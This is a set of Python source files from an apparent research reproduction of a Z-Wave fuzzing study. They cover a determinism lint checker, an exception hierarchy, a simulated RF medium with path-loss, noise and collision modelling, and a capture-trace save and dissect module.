                    findings.extend(self._check_call(source, node, aliases))
                    findings.extend(self._check_builtin_hash(source, node))
                findings.extend(self._check_set_iteration(source, node))
        return findings

    # -- D101/D102 -------------------------------------------------------------

    def _check_call(
        self, source: SourceFile, node: ast.Call, aliases: Dict[str, str]
    ) -> List[LintFinding]:
        classified = classify_call(node, aliases)
        if classified is None:
            return []
        rule, _kind, violation, hint = classified
        return [
            LintFinding(
                rule=rule,
                severity=Severity.ERROR,
                path=source.rel,
                line=node.lineno,
                col=node.col_offset,
                message=violation,
                hint=hint,
            )
        ]

    # -- D104 ------------------------------------------------------------------

    def _check_builtin_hash(
        self, source: SourceFile, node: ast.Call
    ) -> List[LintFinding]:
        """Flag bare ``hash(...)`` calls (the builtin, not methods)."""
        if not (isinstance(node.func, ast.Name) and node.func.id == "hash"):
            return []
        return [
            LintFinding(
                rule="D104",
                severity=Severity.ERROR,
                path=source.rel,
                line=node.lineno,
                col=node.col_offset,
                message="builtin hash() is randomised per process (PYTHONHASHSEED)",
                hint="use zlib.crc32 or a hashlib digest for stable values",
            )
        ]

    # -- D103 ------------------------------------------------------------------

    def _is_set_expression(self, node: ast.AST) -> bool:
        if isinstance(node, (ast.Set, ast.SetComp)):
            return True
        if isinstance(node, ast.Call):
            return dotted_name(node.func) in _SET_BUILTINS
        if isinstance(node, ast.BinOp) and isinstance(node.op, (ast.BitOr, ast.BitAnd, ast.Sub, ast.BitXor)):
            return self._is_set_expression(node.left) or self._is_set_expression(node.right)
        return False

    def _check_set_iteration(self, source: SourceFile, node: ast.AST) -> List[LintFinding]:
        iters: List[ast.AST] = []
        if isinstance(node, (ast.For, ast.AsyncFor)):
            iters.append(node.iter)
        elif isinstance(node, (ast.ListComp, ast.SetComp, ast.DictComp, ast.GeneratorExp)):
            iters.extend(gen.iter for gen in node.generators)
        findings = []
        for candidate in iters:
            if self._is_set_expression(candidate):
                findings.append(
                    LintFinding(
                        rule="D103",
                        severity=Severity.ERROR,
                        path=source.rel,
                        line=candidate.lineno,
                        col=candidate.col_offset,
                        message="iteration over an unordered set expression",
                        hint="wrap the expression in sorted() to fix the order",
                    )
                )
        return findings
