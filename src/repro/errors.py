"""Exception hierarchy shared across the ZCover reproduction.

Every package raises subclasses of :class:`ReproError` so callers can
distinguish library failures from programming errors.  The hierarchy mirrors
the subsystem layout: protocol codec errors, radio errors, simulator errors
and fuzzer errors each get their own branch.
"""

from __future__ import annotations


class ReproError(Exception):
    """Base class for every error raised by this library."""


class FrameError(ReproError):
    """A Z-Wave frame could not be encoded or decoded."""


class ChecksumError(FrameError):
    """A received frame failed its CS-8 / CRC-16 integrity check."""


class FrameTooLargeError(FrameError):
    """A frame would exceed the 64-byte Z-Wave MAC maximum."""


class SpecError(ReproError):
    """The command-class registry was queried inconsistently."""


class UnknownCommandClassError(SpecError):
    """A command-class identifier is not present in the registry."""


class UnknownCommandError(SpecError):
    """A command identifier is not defined for its command class."""


class CryptoError(ReproError):
    """A security-layer (S0/S2) operation failed."""


class AuthenticationError(CryptoError):
    """A MAC tag or key confirmation failed verification."""


class NonceError(CryptoError):
    """A nonce was missing, stale, or reused."""


class RadioError(ReproError):
    """The simulated RF layer rejected an operation."""


class TransceiverError(RadioError):
    """The virtual dongle was misconfigured (frequency, rate, region)."""


class SimulatorError(ReproError):
    """A virtual device rejected an operation."""


class NodeMemoryError(SimulatorError):
    """The controller NVM / node table rejected an operation."""


class DeviceOfflineError(SimulatorError):
    """An operation targeted a device that is powered off or crashed."""


class FuzzerError(ReproError):
    """The fuzzing engine was driven into an invalid state."""


class CampaignError(FuzzerError):
    """A fuzzing campaign configuration is invalid."""


class ObsError(ReproError):
    """The observability layer (metrics, tracing) was misused."""


class SpanValueError(ObsError):
    """A span aggregate was fed a non-integer simulated-time value.

    Span sim-times are exact integer microsecond counts; silently
    coercing a float here would hide a caller that skipped its explicit
    rounding, and two workers coercing differently would break the
    byte-identity of merged metrics documents.  Carries the offending
    ``name`` and ``value`` structurally for callers that want them.
    """

    def __init__(self, name: str, value: object):
        self.name = name
        self.value = value
        super().__init__(
            f"span {name!r}: sim_time_us must be an integer microsecond "
            f"count, got {type(value).__name__} {value!r}"
        )
