"""The shared RF medium: propagation, attenuation, noise and delivery.

Devices and the attacker's dongle attach to one :class:`RadioMedium` at
physical positions.  A transmission is delivered to every attached endpoint
tuned to the same region whose received signal strength clears its
sensitivity floor; delivery is scheduled on the simulated clock after the
frame's airtime.  A log-distance path-loss model gives the 10-70 m attack
range of Figure 2 realistic behaviour: near receivers always hear the
frame, far ones suffer increasing loss until the link dies.
"""

from __future__ import annotations

import math
import random
from dataclasses import dataclass
from typing import Callable, Dict, List, Optional, Tuple

from ..errors import RadioError
from ..zwave.constants import Region
from .clock import SimClock
from .signal import airtime_seconds, corrupt_bits, decode_phy, encode_phy

#: Path-loss model constants (log-distance, sub-GHz indoor/outdoor mix).
TX_POWER_DBM = 0.0
PATH_LOSS_AT_1M_DB = 40.0
PATH_LOSS_EXPONENT = 2.7
SENSITIVITY_DBM = -95.0
#: Above this strength the link is perfect; below, loss ramps linearly.
PERFECT_LINK_DBM = -80.0


def received_power_dbm(distance_m: float) -> float:
    """Received power at *distance_m* under the log-distance model."""
    d = max(distance_m, 0.1)
    return TX_POWER_DBM - PATH_LOSS_AT_1M_DB - 10.0 * PATH_LOSS_EXPONENT * math.log10(d)


def loss_probability(rssi_dbm: float) -> float:
    """Frame-loss probability as a function of received power."""
    if rssi_dbm >= PERFECT_LINK_DBM:
        return 0.0
    if rssi_dbm <= SENSITIVITY_DBM:
        return 1.0
    return (PERFECT_LINK_DBM - rssi_dbm) / (PERFECT_LINK_DBM - SENSITIVITY_DBM)


@dataclass(slots=True)
class Reception:
    """What an endpoint's receive callback is handed.

    ``slots=True`` because one is allocated per endpoint per transmission —
    the single hottest allocation site in a fuzzing campaign.
    """

    raw: bytes
    rssi_dbm: float
    timestamp: float
    rate_kbaud: float
    bit_errors: int = 0


#: Endpoint receive callback signature.
ReceiveCallback = Callable[[Reception], None]


@dataclass
class _Endpoint:
    """Book-keeping for one attached radio."""

    name: str
    position: Tuple[float, float]
    region: Region
    callback: ReceiveCallback
    promiscuous: bool = False
    enabled: bool = True
    sensitivity_dbm: float = SENSITIVITY_DBM


class RadioMedium:
    """A single shared sub-GHz channel."""

    def __init__(
        self,
        clock: SimClock,
        rng: Optional[random.Random] = None,
        noise_bit_rate: float = 0.0,
        bit_accurate: bool = False,
        collisions: bool = False,
    ):
        """*bit_accurate* runs the full PHY bitstream codec (preamble,
        SOF, Manchester/NRZ line coding) on every transmission; the default
        fast path delivers frame bytes directly, which is behaviourally
        identical on a clean channel and an order of magnitude faster for
        long fuzzing campaigns.  Channel noise requires the bit-accurate
        path.  With *collisions* enabled, transmissions whose airtimes
        overlap destroy each other (single shared channel, no capture
        effect); the default leaves the channel ideally arbitrated, which
        matches the CSMA behaviour of real Z-Wave radios closely enough
        for every experiment."""
        self._clock = clock
        self._rng = rng or random.Random(0)
        self._endpoints: Dict[str, _Endpoint] = {}
        self._noise_bit_rate = noise_bit_rate
        self._bit_accurate = bit_accurate or noise_bit_rate > 0.0
        self._collisions = collisions
        self._active: List[dict] = []
        self._transmissions = 0
        self._deliveries = 0
        self._losses = 0
        self._collision_count = 0
        #: Optional fault-injection hook (repro.faults.MediumFaultInjector);
        #: consulted once per transmission when set.
        self.fault_injector = None
        # Topology caches, invalidated whenever geometry changes (attach /
        # detach / move).  RSSI between two stationary endpoints is a pure
        # function of their positions, yet the log10 path-loss evaluation
        # dominated the per-transmission cost; the enabled/region checks
        # stay live so cache state can never change who hears a frame.
        self._endpoint_cache: Optional[Tuple[_Endpoint, ...]] = None
        self._rssi_cache: Dict[Tuple[str, str], Tuple[float, float]] = {}

    # -- attachment -------------------------------------------------------------

    def attach(
        self,
        name: str,
        position: Tuple[float, float],
        region: Region,
        callback: ReceiveCallback,
        promiscuous: bool = False,
        sensitivity_dbm: float = SENSITIVITY_DBM,
    ) -> None:
        """Register an endpoint; *name* must be unique on this medium."""
        if name in self._endpoints:
            raise RadioError(f"endpoint {name!r} already attached")
        self._endpoints[name] = _Endpoint(
            name, position, region, callback, promiscuous, True, sensitivity_dbm
        )
        self._invalidate_topology()

    def detach(self, name: str) -> None:
        self._endpoints.pop(name, None)
        self._invalidate_topology()

    def set_enabled(self, name: str, enabled: bool) -> None:
        """Power an endpoint's receiver on or off."""
        endpoint = self._endpoints.get(name)
        if endpoint is None:
            raise RadioError(f"no endpoint named {name!r}")
        endpoint.enabled = enabled

    def move(self, name: str, position: Tuple[float, float]) -> None:
        """Relocate an endpoint (e.g. the attacker walking closer)."""
        endpoint = self._endpoints.get(name)
        if endpoint is None:
            raise RadioError(f"no endpoint named {name!r}")
        endpoint.position = position
        self._invalidate_topology()

    def endpoints(self) -> List[str]:
        return sorted(self._endpoints)

    def _invalidate_topology(self) -> None:
        self._endpoint_cache = None
        self._rssi_cache.clear()

    # -- statistics --------------------------------------------------------------

    @property
    def stats(self) -> Dict[str, int]:
        return {
            "transmissions": self._transmissions,
            "deliveries": self._deliveries,
            "losses": self._losses,
            "collisions": self._collision_count,
        }

    # -- transmission --------------------------------------------------------------

    def transmit(self, sender: str, frame_bytes: bytes, rate_kbaud: float) -> float:
        """Broadcast *frame_bytes* from *sender*; returns the airtime.

        Each in-range endpoint receives the demodulated bytes after the
        airtime elapses.  Marginal links (between the perfect-link and
        sensitivity thresholds) drop frames probabilistically; optional
        channel noise flips PHY bits, which the receiver's decoder then
        sees as preamble or payload corruption.
        """
        source = self._endpoints.get(sender)
        if source is None:
            raise RadioError(f"unknown transmitter {sender!r}")
        self._transmissions += 1
        airtime = airtime_seconds(frame_bytes, rate_kbaud)
        extra_delay = 0.0
        duplicate = False
        if self.fault_injector is not None:
            action = self.fault_injector.on_transmit(sender, frame_bytes)
            if action is not None:
                if action.drop:
                    self._losses += 1
                    return airtime
                if action.corrupt is not None:
                    frame_bytes = action.corrupt
                extra_delay = action.extra_delay
                duplicate = action.duplicate
        if self._collisions and self._collides(airtime):
            return airtime
        phy_bits = encode_phy(frame_bytes, rate_kbaud) if self._bit_accurate else None
        listeners = self._endpoint_cache
        if listeners is None:
            listeners = self._endpoint_cache = tuple(self._endpoints.values())
        rssi_cache = self._rssi_cache
        for endpoint in listeners:
            if endpoint.name == sender or not endpoint.enabled:
                continue
            if endpoint.region != source.region:
                continue
            link = (sender, endpoint.name)
            cached = rssi_cache.get(link)
            if cached is None:
                distance = math.dist(source.position, endpoint.position)
                rssi = received_power_dbm(distance)
                cached = rssi_cache[link] = (rssi, loss_probability(rssi))
            rssi, loss_p = cached
            if rssi < endpoint.sensitivity_dbm:
                self._losses += 1
                continue
            # The draw happens for every endpoint above sensitivity even on
            # a perfect link — cache state must never change rng consumption.
            if self._rng.random() < loss_p:
                self._losses += 1
                continue
            # A duplicated transmission arrives a second time one airtime
            # after the original (back-to-back repeat on the channel).
            offsets = (extra_delay, extra_delay + airtime) if duplicate else (extra_delay,)
            if phy_bits is None:
                for offset in offsets:
                    self._schedule_delivery(
                        endpoint, frame_bytes, None, rssi, airtime, rate_kbaud, 0, offset
                    )
                continue
            delivered_bits = phy_bits
            bit_errors = 0
            if self._noise_bit_rate > 0.0:
                flips = tuple(
                    i
                    for i in range(len(phy_bits))
                    if self._rng.random() < self._noise_bit_rate
                )
                if flips:
                    delivered_bits = corrupt_bits(phy_bits, flips)
                    bit_errors = len(flips)
            for offset in offsets:
                self._schedule_delivery(
                    endpoint, None, delivered_bits, rssi, airtime, rate_kbaud,
                    bit_errors, offset,
                )
        return airtime

    def _collides(self, airtime: float) -> bool:
        """Collision bookkeeping: destroy overlapping transmissions.

        A new transmission overlapping an in-flight one kills both — the
        victim's scheduled deliveries are cancelled and the newcomer is
        never delivered.  Returns ``True`` when the newcomer collided.
        """
        now = self._clock.now
        self._active = [t for t in self._active if t["end"] > now]
        record = {"end": now + airtime, "events": []}
        if self._active:
            self._collision_count += 1
            for transmission in self._active:
                for event_id in transmission["events"]:
                    self._clock.cancel(event_id)
                transmission["events"] = []
            self._active.append(record)
            return True
        self._active.append(record)
        self._current_transmission = record
        return False

    def _schedule_delivery(
        self,
        endpoint: _Endpoint,
        raw_bytes: Optional[bytes],
        phy_bits: Optional[List[int]],
        rssi: float,
        airtime: float,
        rate_kbaud: float,
        bit_errors: int,
        extra_delay: float = 0.0,
    ) -> None:
        def deliver() -> None:
            if not endpoint.enabled:
                return
            if raw_bytes is not None:
                raw = raw_bytes
            else:
                try:
                    raw = decode_phy(phy_bits, rate_kbaud)
                except RadioError:
                    return  # Undecodable garbage — receiver never syncs.
            self._deliveries += 1
            endpoint.callback(
                Reception(
                    raw=raw,
                    rssi_dbm=rssi,
                    timestamp=self._clock.now + airtime + extra_delay,
                    rate_kbaud=rate_kbaud,
                    bit_errors=bit_errors,
                )
            )

        event_id = self._clock.schedule(airtime + extra_delay, deliver)
        if self._collisions:
            self._current_transmission["events"].append(event_id)
