"""The shared RF medium: propagation, attenuation, noise and delivery.

Devices and the attacker's dongle attach to one :class:`RadioMedium` at
physical positions.  A transmission is delivered to every attached endpoint
tuned to the same region whose received signal strength clears its
sensitivity floor; delivery is scheduled on the simulated clock after the
frame's airtime.  A log-distance path-loss model gives the 10-70 m attack
range of Figure 2 realistic behaviour: near receivers always hear the
frame, far ones suffer increasing loss until the link dies.
"""

from __future__ import annotations

import math
import os
import random
from dataclasses import dataclass
from typing import Callable, Dict, List, Optional, Tuple

from ..errors import RadioError
from ..zwave.constants import Region
from .clock import SimClock
from .signal import airtime_seconds, corrupt_bits, decode_phy, encode_phy

#: Path-loss model constants (log-distance, sub-GHz indoor/outdoor mix).
TX_POWER_DBM = 0.0
PATH_LOSS_AT_1M_DB = 40.0
PATH_LOSS_EXPONENT = 2.7
SENSITIVITY_DBM = -95.0
#: Above this strength the link is perfect; below, loss ramps linearly.
PERFECT_LINK_DBM = -80.0


def received_power_dbm(distance_m: float) -> float:
    """Received power at *distance_m* under the log-distance model."""
    d = max(distance_m, 0.1)
    return TX_POWER_DBM - PATH_LOSS_AT_1M_DB - 10.0 * PATH_LOSS_EXPONENT * math.log10(d)


def loss_probability(rssi_dbm: float) -> float:
    """Frame-loss probability as a function of received power."""
    if rssi_dbm >= PERFECT_LINK_DBM:
        return 0.0
    if rssi_dbm <= SENSITIVITY_DBM:
        return 1.0
    return (PERFECT_LINK_DBM - rssi_dbm) / (PERFECT_LINK_DBM - SENSITIVITY_DBM)


@dataclass(slots=True)
class Reception:
    """What an endpoint's receive callback is handed.

    ``slots=True`` because one is allocated per endpoint per transmission —
    the single hottest allocation site in a fuzzing campaign.
    """

    raw: bytes
    rssi_dbm: float
    timestamp: float
    rate_kbaud: float
    bit_errors: int = 0


#: Endpoint receive callback signature.
ReceiveCallback = Callable[[Reception], None]

#: Engine selector.  "batched" — the only engine — delivers every
#: transmission through one arg-carrying clock event holding all
#: per-endpoint records.  The legacy one-closure-per-delivery loop was
#: removed once the equivalence matrix (tests/test_engine_equivalence.py)
#: proved byte-identical campaign documents across every cell of
#: (device x mode x scheduler x fault-plan x workers); the matrix now
#: runs as the engine's determinism re-run.
ENGINES = ("batched",)


def active_engine() -> str:
    """The engine selected by ``ZCOVER_ENGINE`` (default "batched")."""
    engine = os.environ.get("ZCOVER_ENGINE", "batched")
    if engine not in ENGINES:
        raise RadioError(
            f"unknown ZCOVER_ENGINE {engine!r}; expected one of {ENGINES}"
        )
    return engine


@dataclass
class _Endpoint:
    """Book-keeping for one attached radio."""

    name: str
    position: Tuple[float, float]
    region: Region
    callback: ReceiveCallback
    promiscuous: bool = False
    enabled: bool = True
    sensitivity_dbm: float = SENSITIVITY_DBM


class RadioMedium:
    """A single shared sub-GHz channel."""

    def __init__(
        self,
        clock: SimClock,
        rng: Optional[random.Random] = None,
        noise_bit_rate: float = 0.0,
        bit_accurate: bool = False,
        collisions: bool = False,
    ):
        """*bit_accurate* runs the full PHY bitstream codec (preamble,
        SOF, Manchester/NRZ line coding) on every transmission; the default
        fast path delivers frame bytes directly, which is behaviourally
        identical on a clean channel and an order of magnitude faster for
        long fuzzing campaigns.  Channel noise requires the bit-accurate
        path.  With *collisions* enabled, transmissions whose airtimes
        overlap destroy each other (single shared channel, no capture
        effect); the default leaves the channel ideally arbitrated, which
        matches the CSMA behaviour of real Z-Wave radios closely enough
        for every experiment."""
        self._clock = clock
        self._rng = rng or random.Random(0)
        self._endpoints: Dict[str, _Endpoint] = {}
        self._noise_bit_rate = noise_bit_rate
        self._bit_accurate = bit_accurate or noise_bit_rate > 0.0
        self._collisions = collisions
        self._active: List[dict] = []
        self._transmissions = 0
        self._deliveries = 0
        self._losses = 0
        self._collision_count = 0
        #: Optional fault-injection hook (repro.faults.MediumFaultInjector);
        #: consulted once per transmission when set.
        self.fault_injector = None
        # Topology caches, invalidated whenever geometry changes (attach /
        # detach / move).  RSSI between two stationary endpoints is a pure
        # function of their positions, yet the log10 path-loss evaluation
        # dominated the per-transmission cost; the enabled/region checks
        # stay live so cache state can never change who hears a frame.
        self._endpoint_cache: Optional[Tuple[_Endpoint, ...]] = None
        self._rssi_cache: Dict[Tuple[str, str], Tuple[float, float]] = {}
        # Per-sender delivery plans: the sender/enabled/region/sensitivity
        # filter chain is a pure function of topology and power state, so
        # it runs once per (sender, topology) instead of once per transmit.
        # A plan is (records, out_of_range): records are the endpoints that
        # reach the rng draw — in listener order, so rng consumption is
        # unchanged — and out_of_range counts the sub-sensitivity listeners
        # the legacy loop tallied as losses on every transmission.
        # Invalidated with the topology caches and on every enabled flip
        # (the only write path is :meth:`set_enabled`).
        self._plan_cache: Dict[str, Tuple[Tuple[Tuple[_Endpoint, float, float], ...], int]] = {}
        # Airtime keyed by (frame length, rate): the duration formula only
        # reads those two values, and campaign traffic reuses a handful of
        # frame sizes thousands of times.
        self._airtime_cache: Dict[Tuple[int, float], float] = {}
        # Validates ZCOVER_ENGINE once per medium: an unknown (or removed)
        # engine selection fails loudly at construction, never mid-campaign.
        active_engine()

    # -- attachment -------------------------------------------------------------

    def attach(
        self,
        name: str,
        position: Tuple[float, float],
        region: Region,
        callback: ReceiveCallback,
        promiscuous: bool = False,
        sensitivity_dbm: float = SENSITIVITY_DBM,
    ) -> None:
        """Register an endpoint; *name* must be unique on this medium."""
        if name in self._endpoints:
            raise RadioError(f"endpoint {name!r} already attached")
        self._endpoints[name] = _Endpoint(
            name, position, region, callback, promiscuous, True, sensitivity_dbm
        )
        self._invalidate_topology()

    def detach(self, name: str) -> None:
        self._endpoints.pop(name, None)
        self._invalidate_topology()

    def set_enabled(self, name: str, enabled: bool) -> None:
        """Power an endpoint's receiver on or off."""
        endpoint = self._endpoints.get(name)
        if endpoint is None:
            raise RadioError(f"no endpoint named {name!r}")
        endpoint.enabled = enabled
        self._plan_cache.clear()

    def move(self, name: str, position: Tuple[float, float]) -> None:
        """Relocate an endpoint (e.g. the attacker walking closer)."""
        endpoint = self._endpoints.get(name)
        if endpoint is None:
            raise RadioError(f"no endpoint named {name!r}")
        endpoint.position = position
        self._invalidate_topology()

    def endpoints(self) -> List[str]:
        return sorted(self._endpoints)

    def _invalidate_topology(self) -> None:
        self._endpoint_cache = None
        self._rssi_cache.clear()
        self._plan_cache.clear()

    # -- statistics --------------------------------------------------------------

    @property
    def stats(self) -> Dict[str, int]:
        return {
            "transmissions": self._transmissions,
            "deliveries": self._deliveries,
            "losses": self._losses,
            "collisions": self._collision_count,
        }

    # -- transmission --------------------------------------------------------------

    def transmit(self, sender: str, frame_bytes: bytes, rate_kbaud: float) -> float:
        """Broadcast *frame_bytes* from *sender*; returns the airtime.

        Each in-range endpoint receives the demodulated bytes after the
        airtime elapses.  Marginal links (between the perfect-link and
        sensitivity thresholds) drop frames probabilistically; optional
        channel noise flips PHY bits, which the receiver's decoder then
        sees as preamble or payload corruption.
        """
        source = self._endpoints.get(sender)
        if source is None:
            raise RadioError(f"unknown transmitter {sender!r}")
        self._transmissions += 1
        airtime_key = (len(frame_bytes), rate_kbaud)
        airtime = self._airtime_cache.get(airtime_key)
        if airtime is None:
            airtime = self._airtime_cache[airtime_key] = airtime_seconds(
                frame_bytes, rate_kbaud
            )
        extra_delay = 0.0
        duplicate = False
        if self.fault_injector is not None:
            action = self.fault_injector.on_transmit(sender, frame_bytes)
            if action is not None:
                if action.drop:
                    self._losses += 1
                    return airtime
                if action.corrupt is not None:
                    frame_bytes = action.corrupt
                extra_delay = action.extra_delay
                duplicate = action.duplicate
        if self._collisions and self._collides(airtime):
            return airtime
        phy_bits = encode_phy(frame_bytes, rate_kbaud) if self._bit_accurate else None
        listeners = self._endpoint_cache
        if listeners is None:
            listeners = self._endpoint_cache = tuple(self._endpoints.values())
        return self._transmit_batched(
            sender, source, frame_bytes, phy_bits, airtime, rate_kbaud,
            extra_delay, duplicate, listeners, self._rssi_cache,
        )

    def _transmit_batched(
        self,
        sender: str,
        source: _Endpoint,
        frame_bytes: bytes,
        phy_bits: Optional[List[int]],
        airtime: float,
        rate_kbaud: float,
        extra_delay: float,
        duplicate: bool,
        listeners: Tuple[_Endpoint, ...],
        rssi_cache: Dict[Tuple[str, str], Tuple[float, float]],
    ) -> float:
        """Batched delivery: one clock event carries every listener record.

        The per-endpoint filter/rng sequence is byte-identical to the
        legacy loop (same draws, same order); only the scheduling changes.
        Legacy pushed one closure per (endpoint, offset) with consecutive
        seq numbers and a shared fire time, so the heap drained them in
        listener order anyway — the batch event replays exactly that order
        from a tuple of records, with one heap push per fire time instead
        of one per delivery.  Collision cancellation maps 1:1: cancelling
        the batch id cancels all of the transmission's deliveries.
        """
        plan = self._plan_cache.get(sender)
        if plan is None:
            plan = self._plan_cache[sender] = self._build_plan(
                sender, source, listeners, rssi_cache
            )
        reachable, out_of_range = plan
        self._losses += out_of_range
        rng_random = self._rng.random
        deliveries: List[tuple] = []
        for endpoint, rssi, loss_p in reachable:
            # The draw happens for every endpoint above sensitivity even on
            # a perfect link — cache state must never change rng consumption.
            if rng_random() < loss_p:
                self._losses += 1
                continue
            if phy_bits is None:
                deliveries.append((endpoint, frame_bytes, None, rssi, 0))
                continue
            delivered_bits = phy_bits
            bit_errors = 0
            if self._noise_bit_rate > 0.0:
                flips = tuple(
                    i
                    for i in range(len(phy_bits))
                    if rng_random() < self._noise_bit_rate
                )
                if flips:
                    delivered_bits = corrupt_bits(phy_bits, flips)
                    bit_errors = len(flips)
            deliveries.append((endpoint, None, delivered_bits, rssi, bit_errors))
        if deliveries:
            records = tuple(deliveries)
            # A duplicated transmission arrives a second time one airtime
            # after the original (back-to-back repeat on the channel).
            offsets = (
                (extra_delay, extra_delay + airtime) if duplicate else (extra_delay,)
            )
            for offset in offsets:
                event_id = self._clock.schedule_call(
                    airtime + offset,
                    self._deliver_batch,
                    (records, airtime, rate_kbaud, offset),
                )
                if self._collisions:
                    self._current_transmission["events"].append(event_id)
        return airtime

    def _build_plan(
        self,
        sender: str,
        source: _Endpoint,
        listeners: Tuple[_Endpoint, ...],
        rssi_cache: Dict[Tuple[str, str], Tuple[float, float]],
    ) -> Tuple[Tuple[Tuple[_Endpoint, float, float], ...], int]:
        """Run the listener filter chain once for *sender*.

        Returns the endpoints that reach the loss draw (in listener order,
        with their link rssi and loss probability) plus the count of
        listeners below their sensitivity floor, which the per-transmit
        loop booked as losses each time.
        """
        reachable: List[Tuple[_Endpoint, float, float]] = []
        out_of_range = 0
        for endpoint in listeners:
            if endpoint.name == sender or not endpoint.enabled:
                continue
            if endpoint.region != source.region:
                continue
            link = (sender, endpoint.name)
            cached = rssi_cache.get(link)
            if cached is None:
                distance = math.dist(source.position, endpoint.position)
                rssi = received_power_dbm(distance)
                cached = rssi_cache[link] = (rssi, loss_probability(rssi))
            rssi, loss_p = cached
            if rssi < endpoint.sensitivity_dbm:
                out_of_range += 1
                continue
            reachable.append((endpoint, rssi, loss_p))
        return tuple(reachable), out_of_range

    def _deliver_batch(self, batch: tuple) -> None:
        """Fire every delivery of one transmission, in listener order.

        Runs at the batch's fire time.  The enabled check happens here —
        per record, immediately before its callback — so a callback
        earlier in the batch that powers a later listener down still
        suppresses that delivery, exactly as the per-event legacy path
        did.  The ``Reception`` timestamp is read from the live clock per
        record for the same reason.
        """
        records, airtime, rate_kbaud, offset = batch
        # Callbacks never advance the clock, so every record of the batch
        # sees the same ``now`` — hoisting the timestamp preserves the
        # legacy per-event value (fire-time now + airtime + offset) exactly.
        timestamp = self._clock.now + airtime + offset
        for endpoint, raw_bytes, phy_bits, rssi, bit_errors in records:
            if not endpoint.enabled:
                continue
            if raw_bytes is not None:
                raw = raw_bytes
            else:
                try:
                    raw = decode_phy(phy_bits, rate_kbaud)
                except RadioError:
                    continue  # Undecodable garbage — receiver never syncs.
            self._deliveries += 1
            endpoint.callback(
                Reception(
                    raw=raw,
                    rssi_dbm=rssi,
                    timestamp=timestamp,
                    rate_kbaud=rate_kbaud,
                    bit_errors=bit_errors,
                )
            )

    def _collides(self, airtime: float) -> bool:
        """Collision bookkeeping: destroy overlapping transmissions.

        A new transmission overlapping an in-flight one kills both — the
        victim's scheduled deliveries are cancelled and the newcomer is
        never delivered.  Returns ``True`` when the newcomer collided.
        """
        now = self._clock.now
        self._active = [t for t in self._active if t["end"] > now]
        record = {"end": now + airtime, "events": []}
        if self._active:
            self._collision_count += 1
            for transmission in self._active:
                for event_id in transmission["events"]:
                    self._clock.cancel(event_id)
                transmission["events"] = []
            self._active.append(record)
            return True
        self._active.append(record)
        self._current_transmission = record
        return False
