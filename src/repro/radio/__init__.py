"""Radio substrate: simulated clock, PHY signal codec, RF medium, dongle.

Substitutes for the paper's YardStick One SDR and the physical 868/908 MHz
channel (see DESIGN.md for the substitution rationale).
"""

from .clock import SimClock, Stopwatch
from .medium import (
    RadioMedium,
    Reception,
    loss_probability,
    received_power_dbm,
)
from .signal import (
    airtime_seconds,
    bits_to_bytes,
    bytes_to_bits,
    decode_phy,
    encode_phy,
    manchester_decode,
    manchester_encode,
)
from .trace import TraceRecord, dissect, dissect_trace, load_trace, save_trace
from .transceiver import CapturedFrame, Transceiver

__all__ = [
    "airtime_seconds",
    "bits_to_bytes",
    "bytes_to_bits",
    "CapturedFrame",
    "decode_phy",
    "encode_phy",
    "loss_probability",
    "manchester_decode",
    "manchester_encode",
    "RadioMedium",
    "received_power_dbm",
    "Reception",
    "SimClock",
    "Stopwatch",
    "TraceRecord",
    "dissect",
    "dissect_trace",
    "load_trace",
    "save_trace",
    "Transceiver",
]
