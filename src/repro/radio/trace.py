"""Capture traces: persist, reload and dissect sniffed Z-Wave traffic.

The hardware equivalent is the Silicon Labs Zniffer: a time-stamped log of
every frame on the air with a protocol dissection.  ZCover's passive
scanner, the IDS and the examples all consume live captures; this module
adds the offline half — JSON-lines trace files that survive the session
and a human-readable dissector for inspection.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path
from typing import Iterable, List, Optional, Union

from ..zwave.application import ApplicationPayload
from ..zwave.frame import ZWaveFrame
from ..zwave.registry import SpecRegistry, load_full_registry
from .transceiver import CapturedFrame


@dataclass(frozen=True)
class TraceRecord:
    """One persisted capture."""

    timestamp: float
    rssi_dbm: float
    raw_hex: str
    bit_errors: int = 0

    @property
    def raw(self) -> bytes:
        return bytes.fromhex(self.raw_hex)

    @property
    def frame(self) -> Optional[ZWaveFrame]:
        try:
            return ZWaveFrame.decode(self.raw, verify=False)
        except Exception:
            return None

    @classmethod
    def from_capture(cls, capture: CapturedFrame) -> "TraceRecord":
        return cls(
            timestamp=capture.timestamp,
            rssi_dbm=capture.rssi_dbm,
            raw_hex=capture.raw.hex(),
            bit_errors=capture.bit_errors,
        )


def save_trace(
    captures: Iterable[CapturedFrame], path: Union[str, Path]
) -> int:
    """Persist *captures* as JSON lines; returns the record count."""
    records = [TraceRecord.from_capture(c) for c in captures]
    with Path(path).open("w", encoding="utf-8") as handle:
        for record in records:
            handle.write(
                json.dumps(
                    {
                        "t": record.timestamp,
                        "rssi": record.rssi_dbm,
                        "raw": record.raw_hex,
                        "bit_errors": record.bit_errors,
                    }
                )
                + "\n"
            )
    return len(records)


def load_trace(path: Union[str, Path]) -> List[TraceRecord]:
    """Reload a trace written by :func:`save_trace`."""
    records: List[TraceRecord] = []
    with Path(path).open("r", encoding="utf-8") as handle:
        for line in handle:
            line = line.strip()
            if not line:
                continue
            blob = json.loads(line)
            records.append(
                TraceRecord(
                    timestamp=blob["t"],
                    rssi_dbm=blob["rssi"],
                    raw_hex=blob["raw"],
                    bit_errors=blob.get("bit_errors", 0),
                )
            )
    return records


def dissect(record: TraceRecord, registry: Optional[SpecRegistry] = None) -> str:
    """One Zniffer-style line for *record*."""
    registry = registry or load_full_registry()
    frame = record.frame
    prefix = f"{record.timestamp:10.3f}  {record.rssi_dbm:6.1f} dBm  "
    if frame is None:
        return prefix + f"<undecodable {len(record.raw)} bytes: {record.raw_hex}>"
    if frame.is_ack:
        return prefix + (
            f"{frame.home_id:08X}  {frame.src:3d} -> {frame.dst:3d}  ACK"
        )
    body = "NOP"
    if frame.payload and frame.payload != b"\x00":
        try:
            payload = ApplicationPayload.decode(frame.payload)
            cls = registry.get(payload.cmdcl)
            cls_name = cls.name if cls else f"0x{payload.cmdcl:02X}"
            if payload.cmd is None:
                body = f"{cls_name} (class probe)"
            else:
                cmd = cls.command(payload.cmd) if cls else None
                cmd_name = cmd.name if cmd else f"0x{payload.cmd:02X}"
                body = f"{cls_name}.{cmd_name} [{_render_params(cmd, payload.params)}]"
        except Exception:
            body = f"<bad APL {frame.payload.hex()}>"
    return prefix + (
        f"{frame.home_id:08X}  {frame.src:3d} -> {frame.dst:3d}  seq {frame.sequence:2d}  {body}"
    )


